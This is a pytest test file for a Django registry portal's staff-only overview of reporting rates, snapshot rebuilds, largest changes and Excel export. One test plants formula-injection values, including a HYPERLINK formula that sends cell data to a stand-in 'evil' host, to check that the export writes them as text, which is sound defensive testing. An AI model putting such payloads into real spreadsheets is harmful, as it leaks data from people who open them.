"""Registry staff's overview: reporting rate per deadline (agreeing with the deadlines module for every
submitter), filters, the submitters behind each number, the largest changes with comments, Excel export,
refresh, query counts; everyone else gets 404."""

from __future__ import annotations

import datetime
import io
import random
import re

import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from portal.models import Submitter
from submissions import daily_overview
from submissions.daily_overview import OverviewFilters, reporting_rates, submitters_with_status
from submissions.deadlines import effective_deadline, on_time_status
from submissions.models import ChangeComment, Extension, SnapshotDelivery, SnapshotRun
from submissions.selectors_deadlines import accepted_delivery_at
from submissions.snapshot import snapshot_rebuild, snapshot_update_changed
from tests.conftest import client_for
from tests.factories import (
    AcceptedSubmissionFactory,
    DeadlineFactory,
    EpjVendorFactory,
    ExtensionFactory,
    MunicipalitySubmitterFactory,
    SubmitterFactory,
)
from tests.submissions.conftest import YEAR, kpr_record
from tests.submissions.snapshot_support import receive, table_oid, tables_left_behind

pytestmark = pytest.mark.django_db

OVERVIEW = "submissions:daily:overview"


def overview_url(**query) -> str:
    return reverse(OVERVIEW) + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


@pytest.mark.parametrize("actor", ["municipality_user", "specialist_user", "vendor_user", "outsider"])
def test_the_overview_is_registry_staffs_only(world, actor):
    client = client_for(getattr(world, actor))
    assert client.get(reverse(OVERVIEW)).status_code == 404
    assert client.get(reverse("submissions:daily:overview_export")).status_code == 404
    assert client.post(reverse("submissions:daily:refresh_all")).status_code == 404
    assert not SnapshotRun.objects.exists()


def test_staff_see_the_menu_link_and_others_do_not(world):
    link = f'href="{reverse(OVERVIEW)}"'
    assert link in client_for(world.staff_user).get("/").content.decode()
    assert link not in client_for(world.municipality_user).get("/").content.decode()


# -- reporting rate ------------------------------------------------------------------------------


@pytest.fixture
def deadline_world(world):
    """An NPR tertial deadline in 2030 and five specialists: on time, late, extended, missing, rejected."""
    deadline = DeadlineFactory(year=2030)
    due = deadline.due_at
    people = {
        name: SubmitterFactory(name=f"Spesialist {name}")
        for name in ("a_on_time", "b_late", "c_ext", "d_missing", "e_rejected")
    }
    for kind in ("activity", "ident"):
        AcceptedSubmissionFactory(
            submitter=people["a_on_time"], kind=kind, received_at=due - datetime.timedelta(days=3)
        )
        AcceptedSubmissionFactory(submitter=people["b_late"], kind=kind, received_at=due + datetime.timedelta(days=3))
        AcceptedSubmissionFactory(submitter=people["c_ext"], kind=kind, received_at=due + datetime.timedelta(days=3))
    AcceptedSubmissionFactory(
        submitter=people["d_missing"], kind="activity", received_at=due - datetime.timedelta(days=3)
    )
    AcceptedSubmissionFactory(submitter=people["e_rejected"], status="rejected", received_at=due)
    Extension.objects.create(
        submitter=people["c_ext"],
        deadline=deadline,
        status=Extension.Status.GRANTED,
        previous_date=deadline.due_date,
        requested_date=deadline.due_date + datetime.timedelta(days=7),
        granted_date=deadline.due_date + datetime.timedelta(days=7),
        justification="Nytt journalsystem.",
        requested_by=world.specialist_user,
        decided_by=world.staff_user,
        decided_at=timezone.now(),
    )
    snapshot_rebuild()  # the overview is served from the snapshot
    return deadline, people


def test_counts_per_deadline(world, deadline_world):
    deadline, _people = deadline_world
    rates = reporting_rates(user=world.staff_user, filters=OverviewFilters(year=2030), deadlines=[deadline])
    # The world's own two specialists are expected too, and sent nothing.
    assert rates[0].counts == {"on_time": 1, "late": 1, "on_time_with_extension": 1, "not_received": 4}
    assert (rates[0].expected, rates[0].received, rates[0].missing) == (7, 3, 4)


@pytest.mark.django_db(transaction=True)
@pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL only: the rebuild in steps")
def test_outside_a_transaction_the_deliveries_are_built_beside_the_rebuild_and_swapped_in(world, deadline_world):
    """The fixture's rebuild ran outside a transaction, as the worker's does: the deliveries were built in a thread,
    on a connection of its own, into a table beside the live one, and swapped in with the snapshot's tables; so do
    the next rebuild's."""
    deadline, people = deadline_world
    table = SnapshotDelivery._meta.db_table
    before = table_oid(table)
    snapshot_rebuild()
    assert table_oid(table) != before, "the deliveries should be a new table, swapped in"
    rates = reporting_rates(user=world.staff_user, filters=OverviewFilters(year=2030), deadlines=[deadline])
    assert rates[0].counts == {"on_time": 1, "late": 1, "on_time_with_extension": 1, "not_received": 4}
    statuses = dict(SnapshotDelivery.objects.filter(deadline=deadline).values_list("submitter_id", "status"))
    assert statuses[people["c_ext"].pk] == "on_time_with_extension"
    assert statuses[people["e_rejected"].pk] == "not_received"
    assert tables_left_behind() == 0, "nothing of the build is left beside the tables"


def test_the_nightly_run_brings_the_counts_up_to_date(world, deadline_world):
    """Served from the snapshot: a delivery, an extension and an edited deadline show after the next run."""
    deadline, people = deadline_world
    watermark = timezone.now()

    def counts():
        filters = OverviewFilters(year=2030)
        return reporting_rates(user=world.staff_user, filters=filters, deadlines=[deadline])[0].counts

    before = counts()
    for kind in ("activity", "ident"):  # d_missing completes its delivery (late), after the last run
        AcceptedSubmissionFactory(
            submitter=people["d_missing"], kind=kind, received_at=deadline.due_at + datetime.timedelta(days=1)
        )
    assert counts() == before  # not until the snapshot is refreshed

    snapshot_update_changed(since=watermark)
    assert counts() == {"on_time": 1, "late": 2, "on_time_with_extension": 1, "not_received": 3}

    watermark = timezone.now()
    ExtensionFactory(
        submitter=people["b_late"],
        deadline=deadline,
        status=Extension.Status.GRANTED,
        requested_date=deadline.due_date + datetime.timedelta(days=7),
        granted_date=deadline.due_date + datetime.timedelta(days=7),
        decided_by=world.staff_user,
        decided_at=timezone.now(),
    )
    snapshot_update_changed(since=watermark)
    assert counts() == {"on_time": 1, "late": 1, "on_time_with_extension": 2, "not_received": 3}

    watermark = timezone.now()
    deadline.due_date += datetime.timedelta(days=30)  # staff move the deadline: everyone is on time
    deadline.save()
    snapshot_update_changed(since=watermark)
    assert counts() == {"on_time": 4, "not_received": 3}


def test_the_page_shows_the_counts_and_lists_the_submitters_behind_one(world, deadline_world):
    deadline, _people = deadline_world
    client = client_for(world.staff_user)
    html = client.get(overview_url(aar=2030, register="NPR")).content.decode()
    row = re.search(rf'<tr data-deadline="{deadline.pk}">.*?</tr>', html, re.S).group(0)
    counts = dict(re.findall(r'data-count="([a-z_]+)">(?:<a[^>]*>)?([\d\s\xa0]+)', row))
    assert {k: v.strip() for k, v in counts.items()} == {
        "expected": "7",
        "received": "3",
        "on_time": "1",
        "on_time_with_extension": "1",
        "late": "1",
        "not_received": "4",
    }
    listing = client.get(
        overview_url(aar=2030, register="NPR", frist=deadline.pk, status="not_received")
    ).content.decode()
    names = re.findall(r'<tr data-submitter="\d+">\s*<th scope="row"><a[^>]*>([^<]+)</a>', listing)
    assert names == sorted(names) and "Spesialist d_missing" in names and "Spesialist a_on_time" not in names
    assert len(names) == 4


def test_the_submitter_list_is_paginated(world, deadline_world, monkeypatch):
    deadline, _people = deadline_world
    monkeypatch.setattr(daily_overview, "SUBMITTER_PAGE_SIZE", 3)
    client = client_for(world.staff_user)
    first = client.get(overview_url(aar=2030, frist=deadline.pk, status="not_received")).content.decode()
    second = client.get(overview_url(aar=2030, frist=deadline.pk, status="not_received", side=2)).content.decode()
    assert first.count("<tr data-submitter=") == 3 and second.count("<tr data-submitter=") == 1
    assert "side=2" in first


def test_filters_change_who_is_expected(world, deadline_world):
    deadline, people = deadline_world
    vendor = EpjVendorFactory()
    Submitter.objects.filter(pk=people["a_on_time"].pk).update(epj_vendor=vendor)

    def expected(**filters):
        rates = reporting_rates(
            user=world.staff_user, filters=OverviewFilters(year=2030, **filters), deadlines=[deadline]
        )
        return rates[0].counts

    assert expected(vendor_id=vendor.pk) == {"on_time": 1}
    assert expected(kind="municipality") == {}
    assert expected(sector="public") == {}
    assert expected(county="03") == {}  # only municipalities have a county


def test_the_set_based_status_agrees_with_the_deadlines_module(world):
    """Random deliveries for 30 submitters: the overview's SQL and on_time_status(accepted_delivery_at) agree."""
    rng = random.Random(5)
    deadline = DeadlineFactory(year=2030)
    due = deadline.due_at
    submitters = [SubmitterFactory() for _ in range(30)]
    for submitter in submitters:
        for _ in range(rng.randint(0, 4)):
            full = rng.random() < 0.6
            AcceptedSubmissionFactory(
                submitter=submitter,
                kind=rng.choice(["activity", "ident"]),
                mode="full" if full else "change",
                period_start=datetime.date(2030, 1, 1) if full else None,
                period_end=rng.choice([datetime.date(2030, 4, 30), datetime.date(2030, 3, 31)]) if full else None,
                status=rng.choice(["accepted", "accepted_with_errors", "rejected"]),
                validate_only=rng.random() < 0.1,
                received_at=due + datetime.timedelta(days=rng.randint(-140, 20), hours=rng.randint(0, 23)),
            )
        if rng.random() < 0.3:
            extra = rng.randint(1, 15)
            Extension.objects.create(
                submitter=submitter,
                deadline=deadline,
                status=Extension.Status.GRANTED,
                previous_date=deadline.due_date,
                requested_date=deadline.due_date + datetime.timedelta(days=extra),
                granted_date=deadline.due_date + datetime.timedelta(days=extra),
                justification="x",
                requested_by=world.specialist_user,
                decided_by=world.staff_user,
                decided_at=timezone.now(),
            )
    snapshot_rebuild()
    filters = OverviewFilters(year=2030)
    from_sql = {}
    for status in daily_overview.STATUSES:
        for row in submitters_with_status(
            user=world.staff_user, filters=filters, deadline=deadline, status=status, limit=1000
        ):
            from_sql[row.submitter.pk] = status
    for submitter in [*submitters, world.specialist, world.other_specialist]:
        effective = effective_deadline(submitter=submitter, deadline=deadline)
        delivered = accepted_delivery_at(submitter=submitter, deadline=deadline, due_at=effective.due_at)
        expected = on_time_status(submitter=submitter, deadline=deadline, delivered_at=delivered, effective=effective)
        assert from_sql[submitter.pk] == expected, submitter


# -- largest changes -----------------------------------------------------------------------------


@pytest.fixture
def changes_world(world):
    """Three municipalities last year and this year: Oslo lost 15 users of code 6, Bergen gained 12 of 10."""
    bergen = MunicipalitySubmitterFactory(name="Bergen kommune", municipality_number="4601")
    quiet = MunicipalitySubmitterFactory(name="Stille kommune", municipality_number="3201")
    last, this = YEAR - 1, YEAR
    receive(
        world.municipality,
        [kpr_record(f"o{n}", patient_ref=f"o{n}", service_code="6", event_date=f"{last}-02-01") for n in range(15)],
    )
    receive(world.municipality, [kpr_record("o-this", patient_ref="x", service_code="10", event_date=f"{this}-02-01")])
    receive(
        bergen,
        [
            kpr_record(f"bl{n}", patient_ref=f"b{n}", municipality_number="4601", event_date=f"{last}-02-01")
            for n in range(20)
        ],
    )
    receive(
        bergen,
        [
            kpr_record(f"bt{n}", patient_ref=f"b{n}", municipality_number="4601", event_date=f"{this}-02-01")
            for n in range(32)
        ],
    )
    receive(quiet, [kpr_record("q", patient_ref="q", municipality_number="3201", event_date=f"{last}-02-01")])
    receive(quiet, [kpr_record("q2", patient_ref="q", municipality_number="3201", event_date=f"{this}-02-01")])
    snapshot_rebuild()
    ChangeComment.objects.create(
        submitter=world.municipality,
        register="KPR",
        year=this,
        dimension="service_code",
        category="6",
        text="Feil i uttrekket.",
        author=world.municipality_user,
    )
    return bergen


def test_the_largest_changes_come_first_with_their_comments(world, changes_world):
    changes = daily_overview.largest_changes(user=world.staff_user, filters=OverviewFilters(year=YEAR))
    assert [(row.submitter.name, row.category.code, row.users, row.previous_users) for row in changes.rows] == [
        ("Oslo kommune", "6", 0, 15),
        ("Bergen kommune", "10", 32, 20),
    ]
    assert changes.total == 2
    assert changes.rows[0].comment.text == "Feil i uttrekket."
    assert changes.rows[1].comment is None

    html = client_for(world.staff_user).get(overview_url(aar=YEAR)).content.decode()
    table = re.search(r'data-table="changes".*?</table>', html, re.S).group(0)
    assert table.index("Oslo kommune") < table.index("Bergen kommune")
    assert "Feil i uttrekket." in table


def test_the_changes_follow_the_county_filter(world, changes_world):
    changes = daily_overview.largest_changes(user=world.staff_user, filters=OverviewFilters(year=YEAR, county="46"))
    assert [row.submitter.name for row in changes.rows] == ["Bergen kommune"]


def test_excel_export_has_the_rates_and_the_changes(world, changes_world, deadline_world):
    deadline, _people = deadline_world
    response = client_for(world.staff_user).get(
        reverse("submissions:daily:overview_export"), {"aar": YEAR, "frist": deadline.pk, "status": "late"}
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    workbook = load_workbook(io.BytesIO(response.content))
    assert len(workbook.sheetnames) == 2  # the deadline is of another year: no list of submitters
    changes = list(workbook.worksheets[1].iter_rows(values_only=True))
    assert changes[1][:7] == ("Oslo kommune", "0301", "6", "6 Trygghetsalarm", 0, 15, -15)

    response = client_for(world.staff_user).get(
        reverse("submissions:daily:overview_export"), {"aar": 2030, "frist": deadline.pk, "status": "late"}
    )
    workbook = load_workbook(io.BytesIO(response.content))
    rates = list(workbook.worksheets[0].iter_rows(values_only=True))
    assert [row[3:9] for row in rates[1:]] == [(7, 3, 1, 1, 1, 4)]
    late = list(workbook.worksheets[2].iter_rows(values_only=True))
    assert [row[0] for row in late[1:]] == ["Spesialist b_late"]


def test_names_and_comments_are_never_formulas_in_the_excel_export(world, changes_world, deadline_world):
    """Submitters' names, municipality users' comments and their names are text cells, as written, whatever
    they start with; the counts beside them are numbers."""
    deadline, people = deadline_world
    Submitter.objects.filter(pk=world.municipality.pk).update(name="=1+1")
    Submitter.objects.filter(pk=people["b_late"].pk).update(name="@SUM(A1)")
    ChangeComment.objects.filter(submitter=world.municipality).update(text='=HYPERLINK("http://evil/?"&A1,"klikk")')
    world.municipality_user.first_name, world.municipality_user.last_name = "+cmd", "-2+3"
    world.municipality_user.save()

    export = reverse("submissions:daily:overview_export")
    client = client_for(world.staff_user)
    workbook = load_workbook(io.BytesIO(client.get(export, {"aar": YEAR}).content))
    oslo = next(workbook.worksheets[1].iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in oslo] == [
        ("=1+1", "s"),
        ("0301", "s"),
        ("6", "s"),
        ("6 Trygghetsalarm", "s"),
        (0, "n"),
        (15, "n"),
        (-15, "n"),
        (-100.0, "n"),
        ('=HYPERLINK("http://evil/?"&A1,"klikk")', "s"),
        ("+cmd -2+3", "s"),
    ]

    workbook = load_workbook(
        io.BytesIO(client.get(export, {"aar": 2030, "frist": deadline.pk, "status": "late"}).content)
    )
    late = list(workbook.worksheets[2].iter_rows(min_row=2))
    assert [(row[0].value, row[0].data_type) for row in late] == [("@SUM(A1)", "s")]


# -- refresh and queries ---------------------------------------------------------------------------


def test_staff_refresh_everything_once(world, django_capture_on_commit_callbacks, monkeypatch):
    from submissions import tasks

    queued = []
    monkeypatch.setattr(tasks.refresh_snapshot, "delay", queued.append)
    client = client_for(world.staff_user)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("submissions:daily:refresh_all"))
        client.post(reverse("submissions:daily:refresh_all"))  # a second click while the first waits
    run = SnapshotRun.objects.get()
    assert (run.scope, run.status) == ("all", "pending")
    assert queued == [run.pk]
    html = client.get(reverse(OVERVIEW)).content.decode()
    assert f'data-run="{run.pk}" data-status="pending"' in html


def test_the_overview_takes_a_fixed_number_of_queries(
    world, deadline_world, changes_world, django_assert_max_num_queries
):
    deadline, _people = deadline_world
    DeadlineFactory(year=2030, period_end=datetime.date(2030, 8, 31), due_date=datetime.date(2030, 9, 10))
    for _ in range(20):
        SubmitterFactory()
    client = client_for(world.staff_user)
    client.get(reverse(OVERVIEW))
    # session, user, vendors, deadlines, granted extensions, one per deadline (2), the submitter list (2 +
    # extensions), the changes (3), the latest run, the recent runs.
    with django_assert_max_num_queries(15):
        response = client.get(overview_url(aar=2030, frist=deadline.pk, status="not_received"))
    assert response.status_code == 200
